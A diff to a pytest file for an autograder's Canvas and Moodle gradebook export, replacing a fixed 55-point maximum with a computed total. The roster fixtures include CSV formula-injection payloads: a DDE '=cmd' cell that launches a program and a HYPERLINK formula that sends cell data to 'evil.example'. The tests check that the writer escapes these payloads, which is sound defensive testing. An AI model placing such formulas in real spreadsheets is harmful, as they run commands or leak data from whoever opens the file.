@@ -7,12 +7,15 @@ import csv
 import pytest
 
 from autograder.course.gradebook import RosterError, write_canvas, write_moodle
+from tests.helpers import total
+
+TOTAL = total()  # the assignment's most, from the checks' points and the settings
 
 # a Canvas gradebook export as Canvas writes it: identity columns, assignment columns "Title (id)", totals, and
 # the indented "Points Possible" row second
 CANVAS_ROSTER = (
     "Student,ID,SIS User ID,SIS Login ID,Section,Quiz 1 (101),SDPA (2024),Current Points,Final Points\n"
-    "    Points Possible,,,,,10.00,55.00,(read only),(read only)\n"
+    f"    Points Possible,,,,,10.00,{TOTAL:.2f},(read only),(read only)\n"
     '"Doe, Jane",1001,s1001,jdoe,Section A,9,,9,9\n'
     '"O\'Brien ""Bob""",1002,s1002,bob,Section A,8,,8,8\n'
     "=cmd|' /C calc'!A0,1003,s1003,mallory,Section B,7,,7,7\n"
@@ -33,12 +36,12 @@ def test_canvas_file_keeps_canvas_header_rules(tmp_path):
     roster = tmp_path / "roster.csv"
     roster.write_text(CANVAS_ROSTER, encoding="utf-8")
     out = tmp_path / "canvas.csv"
-    written = write_canvas(out, roster, "SDPA", {"jdoe": 55.0, "bob": 27.5, "mallory": 0.0, "stray": 10.0}, 55.0)
+    written = write_canvas(out, roster, "SDPA", {"jdoe": TOTAL, "bob": 27.5, "mallory": 0.0, "stray": 10.0}, TOTAL)
     rows = _read(out)
     assert rows[0] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "SDPA (2024)"]
-    assert rows[1][0].strip() == "Points Possible" and rows[1][-1] == "55"
+    assert rows[1][0].strip() == "Points Possible" and rows[1][-1] == f"{TOTAL:g}"
     assert rows[2:] == [
-        ["Doe, Jane", "1001", "s1001", "jdoe", "Section A", "55"],
+        ["Doe, Jane", "1001", "s1001", "jdoe", "Section A", f"{TOTAL:g}"],
         ['O\'Brien "Bob"', "1002", "s1002", "bob", "Section A", "27.5"],
         ["'=cmd|' /C calc'!A0", "1003", "s1003", "mallory", "Section B", "0"],
     ]
@@ -49,7 +52,7 @@ def test_canvas_title_without_an_id_is_its_own_column(tmp_path):
     """A roster without the assignment gets a new column named by the title."""
     roster = tmp_path / "roster.csv"
     roster.write_text("Student,ID,SIS User ID,SIS Login ID,Section\nA,1,s1,a,S\n", encoding="utf-8")
-    write_canvas(tmp_path / "c.csv", roster, "Attention", {"a": 3.0}, 55.0)
+    write_canvas(tmp_path / "c.csv", roster, "Attention", {"a": 3.0}, TOTAL)
     assert _read(tmp_path / "c.csv")[0][-1] == "Attention"
 
 
@@ -88,12 +91,12 @@ def test_canvas_file_runs_no_formula_from_the_roster(tmp_path):
         encoding="utf-8",
     )
     out = tmp_path / "canvas.csv"
-    written = write_canvas(out, roster, "=1+1", {"jdoe": 55.0, "+bob": 27.5, "tab": 1.0}, 55.0)
+    written = write_canvas(out, roster, "=1+1", {"jdoe": TOTAL, "+bob": 27.5, "tab": 1.0}, TOTAL)
     assert written.matched == 3
     rows = _read(out)
     assert rows[0] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "'=1+1"]
     assert rows[2:] == [
-        ['\'=HYPERLINK("https://evil.example/?d="&B2,"grades")', "2001", "s2001", "jdoe", "A", "55"],
+        ['\'=HYPERLINK("https://evil.example/?d="&B2,"grades")', "2001", "s2001", "jdoe", "A", f"{TOTAL:g}"],
         ["'@SUM(1)", "2002", "'-2002", "'+bob", "'=Section", "27.5"],
         ["'\\x09Tab", "2003", "s2003", "tab", "A", "1"],
     ]
@@ -125,7 +128,7 @@ def test_a_roster_that_is_not_an_export_is_refused(tmp_path):
     roster = tmp_path / "r.csv"
     roster.write_text("name,score\nA,1\n", encoding="utf-8")
     with pytest.raises(RosterError, match="not a Canvas gradebook export.*has: name, score"):
-        write_canvas(tmp_path / "c.csv", roster, "SDPA", {}, 55.0)
+        write_canvas(tmp_path / "c.csv", roster, "SDPA", {}, TOTAL)
     with pytest.raises(RosterError, match="cannot be read"):
         write_moodle(tmp_path / "m.csv", tmp_path / "missing.csv", "SDPA", {})
 
@@ -150,10 +153,10 @@ def test_the_assignments_column_is_found_without_case_and_named(tmp_path):
     which column it is and whether the roster had it, and lists the roster's assignment columns."""
     roster = tmp_path / "roster.csv"
     roster.write_text(CANVAS_ROSTER, encoding="utf-8")
-    written = write_canvas(tmp_path / "c.csv", roster, "sdpa", {"jdoe": 55.0}, 55.0)
+    written = write_canvas(tmp_path / "c.csv", roster, "sdpa", {"jdoe": TOTAL}, TOTAL)
     assert (written.column, written.column_is_new) == ("SDPA (2024)", False)
     assert _read(tmp_path / "c.csv")[0][-1] == "SDPA (2024)"
-    written = write_canvas(tmp_path / "c.csv", roster, "Attention", {"jdoe": 55.0}, 55.0)
+    written = write_canvas(tmp_path / "c.csv", roster, "Attention", {"jdoe": TOTAL}, TOTAL)
     assert (written.column, written.column_is_new) == ("Attention", True)
     assert written.assignments == ("Quiz 1 (101)", "SDPA (2024)")
     moodle = tmp_path / "moodle.csv"
@@ -174,7 +177,7 @@ def test_the_unmatched_and_the_column_are_told_last_naming_the_file(tmp_path):
     out.mkdir()
     for name in ("jdoe", "stray"):
         (folder / name).mkdir(parents=True)
-        (out / f"{name}.json").write_text(json.dumps({"score": 40.0, "max_score": 55.0, "output": "", "tests": []}))
+        (out / f"{name}.json").write_text(json.dumps({"score": 40.0, "max_score": TOTAL, "output": "", "tests": []}))
     roster = tmp_path / "roster.csv"
     roster.write_text(CANVAS_ROSTER, encoding="utf-8")
     canvas = tmp_path / "canvas.csv"
